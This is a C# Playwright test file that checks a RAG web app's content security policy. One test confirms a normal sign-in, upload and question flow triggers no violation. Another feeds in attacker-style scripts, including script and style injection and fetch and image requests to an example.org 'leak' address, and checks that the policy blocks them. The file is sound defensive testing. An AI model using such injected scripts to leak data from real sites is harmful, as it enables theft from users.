using RagApp.Tests.EndToEnd;
using RagApp.Tests.TestServices;
using static Microsoft.Playwright.Assertions;

namespace RagApp.Tests.Browser;

/// <summary>The page under its content security policy: it runs without a violation, and what the policy forbids is a violation.</summary>
public sealed class PolicyTests(RunningApp app, Chromium chromium) : BrowserTests(app, chromium)
{
    private const string Listen =
        "window.violations = []; document.addEventListener('securitypolicyviolation', event => window.violations.push(event.effectiveDirective));";

    [Fact]
    public async Task Page_UsedFromSignInToPassage_ViolatesNothing()
    {
        await Page.AddInitScriptAsync(Listen);
        await Page.ReloadAsync();
        var word = UniqueWord();
        await EnterAsync("demo-alice");
        await UploadAsync($"{word}.md", $"# Ferries\n\nThe {word} ferry leaves at noon.");
        await WaitUntilIndexedAsync($"{word}.md");
        await AskAsync($"When does the {word} ferry leave?");
        await Expect(Answer.GetByText("noon").First).ToBeVisibleAsync();

        (await ViolationsAsync()).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("const script = document.createElement('script'); script.text = 'window.ran = true'; document.head.append(script);")]
    [InlineData("document.body.innerHTML = '<b>bold</b>';")]
    [InlineData("const style = document.createElement('style'); style.textContent = 'body { color: red }'; document.head.append(style);")]
    [InlineData("new Image().src = 'https://example.org/leak.png';")]
    [InlineData("fetch('https://example.org/leak').catch(() => 0);")]
    public async Task Page_DoesWhatAnAttackerWould_IsStoppedByThePolicy(string attack)
    {
        await using var context = await Page.Context.Browser!.NewContextAsync(); // its console errors are what the test asks for
        var page = await context.NewPageAsync();
        await page.AddInitScriptAsync(Listen);
        await page.GotoAsync(Gateway.AbsoluteUri);

        await page.EvaluateAsync($"() => {{ try {{ {attack} }} catch {{ }} }}");

        await Eventually.HoldsAsync(() => page.EvaluateAsync<bool>("window.violations.length > 0"));
        (await page.EvaluateAsync<bool>("window.ran === true")).ShouldBeFalse();
    }

    private async Task<string[]> ViolationsAsync() => await Page.EvaluateAsync<string[]>("window.violations");
}
